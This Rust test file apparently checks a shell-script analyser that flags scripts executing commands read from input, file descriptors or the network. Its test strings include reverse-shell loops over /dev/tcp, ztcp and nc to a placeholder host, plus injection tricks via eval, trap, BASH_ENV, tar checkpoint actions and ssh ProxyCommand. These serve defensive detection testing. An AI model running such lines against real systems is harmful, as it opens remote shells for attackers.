//! Ways that data takes through shell text, and where it comes from.

use super::{Verdict, shell_verdict};

fn verdict(text: &str) -> Verdict {
    shell_verdict(text.as_bytes(), &[], 0)
}

#[test]
fn data_is_followed_on_every_way() {
    let cases = [
        "f(){ $1; }; while read -r a; do f \"$a\"; done",
        "function run { eval \"$@\"; }; read l; run echo \"$l\"",
        "g(){ $1; }; f(){ g \"$1\"; }; read l; f \"$l\"",
        "while read -r a; do printf -v b %s \"$a\"; $b; done",
        "while read -r a; do echo \"${a@P}\"; done",
        "while read -r a; do echo $((a)); done",
        "read a; (( a > 1 )) && echo x",
        "read a; let x=$a",
        "while read -r a; do [[ $a -eq 1 ]]; done",
        "while read -r a; do trap \"$a\" USR1; kill -USR1 $$; done",
        "declare -n r=a; while read -r a; do $r; done",
        "while read -r a; do v=a; ${!v}; done",
        "while read -r a; do PS4=\"$a\"; set -x; :; set +x; done",
        "declare -A m; while read -r a; do m[x]=\"$a\"; ${m[x]}; done",
        "while read -r a; do find /etc/hostname -exec $a \\;; done",
        "read a; find / -name x -exec sh -c \"$a\" \\;",
        "find /etc/hostname -exec sh ';'",
        "shopt -s expand_aliases; while read -r a; do alias zz=\"$a\"; eval zz; done",
        "while read -r a; do compgen -C \"$a\" x; done",
        "while read -r a; do env $a; done",
        "while read -r a; do timeout 5 $a; done",
        "read -r a; watch -n1 \"$a\"",
        "read -r a; tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=\"$a\"",
        "read -r a; ssh -o ProxyCommand=\"$a\" x",
        "S=/bin/sh; exec $S",
        "S='/bin/sh -i'; $S",
        "x=sh; y=$x; exec \"$y\"",
        "coproc sh; cat <&0 >&${COPROC[1]} & cat <&${COPROC[0]}",
        "xargs -a /etc/hostname -I% sh",
        "xargs -n1 -I% ssh -o ProxyCommand=% x",
        "read x; export BASH_ENV=\"$x\"; bash -c :",
    ];
    let missed: Vec<_> = cases.into_iter().filter(|text| !verdict(text).is_certain()).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

#[test]
fn look_alikes_stay_quiet() {
    let cases = [
        "f(){ echo \"$1\"; }; while read -r a; do f \"$a\"; done",
        "f(){ $1; }; read a; echo $a; f date",
        "while read -r a; do printf -v b %s \"$a\"; echo $b; done",
        "read a; echo \"${a@Q}\"",
        "read a; [[ $a =~ ^[0-9]+$ ]] || exit; echo $((a + 1))",
        "case $n in *[!0-9]*) exit;; esac; read n; echo $((n * 2))",
        "read a; [[ $a == 1 ]] && date",
        "read a; [ \"$a\" -eq 1 ] && date",
        "i=0; while read l; do echo $((i)); i=$((i+1)); done",
        "trap 'rm -f x' EXIT; read a; echo $a",
        "declare -n r=a; read b; $r; echo $b",
        "read v; x=$HOME; ${!x}; echo $v",
        "find . -name '*.log' -exec gzip {} \\;; read a; echo $a",
        "read a; find . -name \"$a\" -exec cat {} \\;",
        "alias ll='ls -l'; read a; echo $a",
        "read a; tar cf \"$a.tar\" /srv",
        "read a; ssh host -- echo \"$a\"",
        "C=/usr/bin/date; read a; $C; echo $a",
        "while read -r name rest; do printf '%s\\n' \"$name\" >> /var/log/names; done",
    ];
    let wrong: Vec<_> = cases.into_iter().filter(|text| verdict(text).takes_commands()).collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[test]
fn the_descriptor_is_told() {
    for (text, descriptor) in [
        ("sh", 0),
        ("eval \"$(cat)\"", 0),
        ("exec bash /dev/fd/3", 3),
        ("exec 0<&3; while read -r c; do eval \"$c\"; done", 3),
        ("while read c <&3; do eval \"$c\" >&3; done", 3),
        ("while read -u 4 c; do eval \"$c\"; done", 4),
        ("while read -u5 c; do eval \"$c\"; done", 5),
        ("sh <&3 >&3", 3),
        (". /dev/fd/7", 7),
        ("source /proc/self/fd/9", 9),
        ("exec <&3 >&3; . <(cat)", 3),
        ("exec 3<&0 </dev/null; while read -r a <&3; do $a; done", 0),
        ("python3 /dev/fd/6", 6),
        ("cat <&200 | sh", 200),
        ("exec 3<&0; read a <&4; read b; $a; $b", 0),
    ] {
        let verdict = verdict(text);
        assert_eq!((verdict.descriptor, verdict.network), (Some(descriptor), false), "{text}");
    }
}

#[test]
fn commands_from_the_network() {
    for text in [
        "exec 3<>/dev/tcp/h/1; while read -r l <&3; do eval \"$l\" >&3 2>&1; done",
        "exec 5<>/dev/tcp/h/1;cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done",
        "0<&196;exec 196<>/dev/tcp/h/1; sh <&196 >&196 2>&196",
        "exec 9<>/dev/tcp/h/1; sh <&9",
        "zmodload zsh/net/tcp; ztcp h 1; while read -r c <&$REPLY; do eval \"$c\" >&$REPLY 2>&1; done",
        "zmodload zsh/net/tcp; ztcp h 1; fd=$REPLY; while read -r c <&$fd; do eval $c; done",
        "exec {s}<>/dev/tcp/h/1; while read -r c <&$s; do eval \"$c\"; done",
        "exec {s}<>/dev/tcp/h/1; while read -ru $s c; do $c; done",
        ". /dev/tcp/h/1",
        "eval \"$(cat </dev/tcp/h/1)\"",
        "nc h 1 | while read l; do $l; done",
    ] {
        assert!(verdict(text).network, "{text}");
    }
    for text in [
        "</dev/tcp/h/1 && echo up",
        "exec 3<>/dev/tcp/h/1; echo ping >&3; head -1 <&3",
        "exec 3<>/dev/tcp/h/1; echo ping >&3; read -r x <&3; echo $x | grep -q .",
        "cat </dev/tcp/h/1 > /tmp/x",
        "exec 3<>/dev/tcp/h/1; tail -f /var/log/x >&3",
        "exec 3<>/dev/tcp/h/1; read -r v <&3; case $v in ok) date;; esac",
        "echo x >/dev/udp/h/514; eval \"$SETTINGS\"",
        "exec {s}<>/dev/tcp/h/1; read -ru $s line; printf '%s' \"$line\" | logger",
    ] {
        assert!(!verdict(text).takes_commands(), "{text}");
    }
}

#[test]
fn arguments_are_known() {
    let given = |text: &str, argument: &str| shell_verdict(text.as_bytes(), &[argument.into()], 0);
    assert_eq!(given(". \"$1\"", "/dev/stdin"), Verdict::reads(0));
    assert_eq!(given("exec $1", "sh"), Verdict::reads(0));
    assert_eq!(given("exec $1", "date"), Verdict::QUIET);
}

#[test]
fn functions_that_call_each_other_end() {
    let mut text = String::new();
    for n in 0..200 {
        text += &format!("f{n}() {{ f{}; f{}; f{}; }}\n", (n + 1) % 200, (n * 7) % 200, (n * 13) % 200);
    }
    let start = std::time::Instant::now();
    verdict(&text);
    assert!(start.elapsed().as_secs() < 5, "{:?}", start.elapsed());
}

#[test]
fn nesting_of_every_kind_together_fits_the_stack() {
    let nested = |inner: &str| format!("{}{inner}; {}", "{ ".repeat(44), "} ;".repeat(44));
    let mut text = nested("echo");
    for _ in 0..5 {
        let quoted = format!("'{}'", text.replace('\'', "'\\''"));
        let functions: String =
            (0..4).map(|n| format!("f{n}() {{ {} }}; ", nested(&format!("f{}", n + 1)))).collect();
        let called = format!("f4() {{ {} }}; f0", nested(&format!("eval {quoted}; sh -c {quoted}")));
        text = functions + &called;
        if text.len() > 200_000 {
            break;
        }
    }
    let start = std::time::Instant::now();
    verdict(&text);
    assert!(start.elapsed().as_secs() < 10, "{:?}", start.elapsed());
}
